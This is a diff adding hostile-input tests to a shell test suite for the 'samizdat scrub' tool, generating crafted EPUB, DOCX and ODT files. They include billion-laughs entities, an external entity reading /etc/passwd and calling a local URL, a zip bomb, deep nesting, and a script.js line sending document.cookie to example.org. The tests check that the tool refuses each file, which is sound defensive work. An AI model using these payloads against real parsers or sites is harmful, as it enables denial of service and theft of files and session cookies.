@@ -1,9 +1,10 @@
 #!/bin/sh
 # scrub_hostile.sh - bad input to `samizdat scrub` and `inspect`: damaged
 # and truncated files of every type, zip bombs, PDF reference loops,
-# images claiming huge sizes, lying extensions.  Each ends with a clear
-# message and exit status 1 (damaged, over a limit) or 3 (unsupported),
-# never with output left behind, and memory stays bounded.
+# images claiming huge sizes, lying extensions; billion laughs, external
+# entities and deep nesting in XML; DRM, scripts and passwords.  Each ends
+# with a clear message and exit status 1 (damaged, over a limit) or 3
+# (unsupported), never with output left behind, and memory stays bounded.
 CORPUS_SH=$(cd "$(dirname "$0")/../docs" && pwd)/corpus.sh
 . "$(dirname "$0")/tap.sh"
 S=$SAMIZDAT
@@ -18,6 +19,7 @@ status() { "$@" >.msg 2>&1; echo $?; }
 # everything with structure must be refused.
 for f in photo.jpg image.png anim.gif scan.tif picture.webp report.pdf \
 	letter.docx budget.xlsx deck.pptx memo.odt accounts.ods talk.odp \
+	chart.odg formula.odf book.epub \
 	song.ogg voice.opus song.mp3; do
 	size=$(stat -c %s "orig/$f")
 	head -c $((size / 2)) "orig/$f" >"cut-$f"
@@ -87,6 +89,167 @@ check "...naming the member" grep -q vbaProject.bin .msg
 check "...and nothing is written" test ! -e macro.cleaned.docx
 check "--allow-unknown copies the member instead" \
 	sh -c "'$S' scrub --allow-unknown -o allowed.docx macro.docx | grep -q 'unknown member copied'"
+
+# Office, OpenDocument and EPUB files as attackers and broken tools write
+# them (python's zipfile is the producer).
+python3 - <<'EOF'
+import zipfile
+
+def book(name, chapter=None, extra=(), container=True):
+    """An EPUB with one chapter; extra members as (name, data)."""
+    opf = ('<?xml version="1.0" encoding="UTF-8"?><package xmlns="http://www.idpf.org/2007/opf" '
+           'version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
+           '<dc:identifier id="id">urn:uuid:0f8fad5b-d9cb-469f-a165-70867728950e</dc:identifier>'
+           '<dc:title>T</dc:title><dc:language>en</dc:language></metadata><manifest>'
+           '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
+           '<spine><itemref idref="c"/></spine></package>')
+    with zipfile.ZipFile(name, 'w', zipfile.ZIP_DEFLATED) as z:
+        z.writestr(zipfile.ZipInfo('mimetype'), 'application/epub+zip', zipfile.ZIP_STORED)
+        if container:
+            z.writestr('META-INF/container.xml',
+                '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
+                '<rootfiles><rootfile full-path="content.opf" media-type="application/oebps-package+xml"/>'
+                '</rootfiles></container>')
+        z.writestr('content.opf', opf)
+        z.writestr('c.xhtml', chapter or
+            '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title></head>'
+            '<body><p>text</p></body></html>')
+        for n, d in extra:
+            z.writestr(n, d)
+
+lol = ''.join('<!ENTITY l%d "%s">' % (i, ('&l%d;' % (i - 1)) * 10 if i else 'lol') for i in range(10))
+book('laughs.epub', '<?xml version="1.0"?><!DOCTYPE html [%s]><html xmlns="http://www.w3.org/1999/xhtml">'
+     '<head><title>c</title></head><body><p>&l9;</p></body></html>' % lol)
+book('xxe.epub', '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">'
+     '<!ENTITY y SYSTEM "http://127.0.0.1:9/leak">]><html xmlns="http://www.w3.org/1999/xhtml">'
+     '<head><title>c</title></head><body><p>&x;&y;</p></body></html>')
+book('deep.epub', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>'
+     '</head><body>' + '<div>' * 100000 + '</div>' * 100000 + '</body></html>')
+book('bomb.epub', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>'
+     '</head><body><p>' + ' ' * (200 << 20) + '</p></body></html>')
+book('drm.epub', extra=[('META-INF/encryption.xml',
+     '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
+     'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod '
+     'Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><enc:CipherData><enc:CipherReference '
+     'URI="c.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>')])
+book('script.epub', extra=[('script.js', 'fetch("https://example.org/" + document.cookie)')])
+book('nocontainer.epub', container=False)
+
+ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+      'wordprocessingml.document.main+xml"/></Types>')
+with zipfile.ZipFile('laughs.docx', 'w', zipfile.ZIP_DEFLATED) as z:
+    z.writestr('[Content_Types].xml', ct)
+    z.writestr('word/document.xml', '<?xml version="1.0"?><!DOCTYPE w:document [%s]><w:document '
+               'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
+               '<w:t>&l9;</w:t></w:r></w:p></w:body></w:document>' % lol)
+
+with zipfile.ZipFile('orig/letter.docx') as s, zipfile.ZipFile('noct.docx', 'w') as d:
+    for i in s.infolist():
+        if i.filename != '[Content_Types].xml':
+            d.writestr(i, s.read(i.filename))
+
+# A password-protected OpenDocument file: its parts are encrypted, and the
+# manifest says how.
+with zipfile.ZipFile('orig/memo.odt') as s, zipfile.ZipFile('locked.odt', 'w') as d:
+    for i in s.infolist():
+        data = s.read(i.filename)
+        if i.filename == 'META-INF/manifest.xml':
+            data = data.replace(b'manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
+                b'manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data '
+                b'manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"><manifest:algorithm '
+                b'manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
+                b'</manifest:encryption-data></manifest:file-entry>')
+        if i.filename == 'content.xml':
+            data = bytes(b ^ 0x5a for b in data)
+        d.writestr(i, data)
+EOF
+# Work that grows with the square of the input: every paragraph mark
+# deleted (each joins the next), 200 000 references to dropped parts, a
+# reading order naming one chapter 100 000 times.
+python3 - <<'EOF'
+import zipfile
+W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
+R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+      '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
+      'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
+def docx(name, body, extra=()):
+    with zipfile.ZipFile(name, 'w', zipfile.ZIP_DEFLATED) as z:
+        z.writestr('[Content_Types].xml', ct)
+        z.writestr('word/document.xml', '<?xml version="1.0"?><w:document xmlns:w="%s" xmlns:r="%s">'
+                   '<w:body>%s</w:body></w:document>' % (W, R, body))
+        for n, d in extra:
+            z.writestr(n, d)
+docx('joins.docx', ''.join('<w:p><w:pPr><w:rPr><w:del w:id="%d" w:author="X"/></w:rPr></w:pPr>'
+     '<w:r><w:t>p%d </w:t></w:r></w:p>' % (i, i) for i in range(200000)) +
+     '<w:p><w:r><w:t>end</w:t></w:r></w:p>')
+docx('refs.docx', ''.join('<w:p><w:r r:id="rIdC%d"><w:t>x</w:t></w:r></w:p>' % (i % 20000)
+     for i in range(200000)),
+     [('word/_rels/document.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
+       'openxmlformats.org/package/2006/relationships">' + ''.join('<Relationship Id="rIdC%d" '
+       'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" '
+       'Target="comments.xml"/>' % i for i in range(20000)) + '</Relationships>'),
+      ('word/comments.xml', '<w:comments xmlns:w="%s"/>' % W)])
+opf = ('<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" '
+       'unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier '
+       'id="id">x</dc:identifier><dc:title>T</dc:title><dc:language>en</dc:language></metadata>'
+       '<manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>' +
+       '<itemref idref="c"/>' * 100000 + '</spine></package>')
+with zipfile.ZipFile('spine.epub', 'w', zipfile.ZIP_DEFLATED) as z:
+    z.writestr(zipfile.ZipInfo('mimetype'), 'application/epub+zip', zipfile.ZIP_STORED)
+    z.writestr('META-INF/container.xml', '<?xml version="1.0"?><container version="1.0" '
+               'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
+               'full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>')
+    z.writestr('content.opf', opf)
+    z.writestr('c.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title></head>'
+               '<body>' + '<p/>' * 5000 + '</body></html>')
+EOF
+st=$(status timeout 120 "$S" scrub -q -o out-joins.docx joins.docx)
+check "200 000 deleted paragraph marks join in one pass, not a hang ($st)" test "$st" = 0
+check "...into one paragraph with all their text" sh -c \
+	"test \"\$(unzip -p out-joins.docx word/document.xml | grep -o '<w:p>' | wc -l)\" = 1 && \
+	 unzip -p out-joins.docx word/document.xml | grep -q 'p199999 '"
+st=$(status timeout 120 "$S" scrub -q -o out-refs.docx refs.docx)
+check "200 000 references to 20 000 dropped relationships are removed, not a hang ($st)" \
+	sh -c "test $st = 0 && ! unzip -p out-refs.docx word/document.xml | grep -q 'r:id='"
+st=$(status timeout 120 "$S" extract spine.epub)
+check "a reading order naming one chapter 100 000 times stops at a limit or ends ($st)" \
+	sh -c "test $st = 0 || test $st = 1"
+st=$(status "$S" scrub -o out-noct.docx noct.docx)
+check "a DOCX without [Content_Types].xml is refused with exit 1" test "$st" = 1
+check "...saying exactly that" grep -q 'has no \[Content_Types\].xml' .msg
+check "...and nothing is written" test ! -e out-noct.docx
+for f in laughs.epub laughs.docx; do
+	st=$(status timeout 60 "$S" scrub -o "out-$f" "$f")
+	check "a billion laughs in $f is refused with exit 1, not a hang ($st)" test "$st" = 1
+	check "...with a message naming what it found" \
+		grep -q 'expand without end\|declares a DTD' .msg
+done
+st=$(status timeout 60 "$S" scrub -o out-xxe.epub xxe.epub)
+check "external entities in an EPUB (a file, a web address) are refused with exit 1 ($st)" \
+	test "$st" = 1
+check "...saying why" grep -q 'external entity' .msg
+check "...and nothing is written" test ! -e out-xxe.epub
+st=$(status timeout 60 "$S" scrub -o out-deep.epub deep.epub)
+check "100 000 nested elements in an EPUB are refused with exit 1 ($st)" test "$st" = 1
+/usr/bin/time -q -f %M -o rss-bomb "$S" scrub -o out-bomb.epub bomb.epub >.msg 2>&1
+st=$?
+check "an EPUB zip bomb (200 MiB of XHTML) is refused with exit 1 ($st)" test "$st" = 1
+check "...saying it expands too much" grep -q "expands\|larger than" .msg
+check "...in bounded memory ($(cat rss-bomb) KiB)" test "$(cat rss-bomb)" -lt 65536
+st=$(status "$S" scrub -o out-drm.epub drm.epub)
+check "an EPUB with DRM is refused as unsupported (exit 3)" test "$st" = 3
+check "...saying it is DRM" grep -q DRM .msg
+check "an EPUB with a script is refused (exit 3)" \
+	test "$(status "$S" scrub -o out-script.epub script.epub)" = 3
+check "...naming the member" grep -q script.js .msg
+check "an EPUB without META-INF/container.xml is refused (exit 1)" \
+	test "$(status "$S" scrub -o out-nc.epub nocontainer.epub)" = 1
+check "...naming what is missing" grep -q container.xml .msg
+check "a password-protected ODT is refused as unsupported (exit 3)" \
+	test "$(status "$S" scrub -o out-locked.odt locked.odt)" = 3
+check "...saying to save it without a password first" grep -q password .msg
 
 # PDFs: a page tree that loops, a huge claimed object count.
 python3 - <<'EOF'
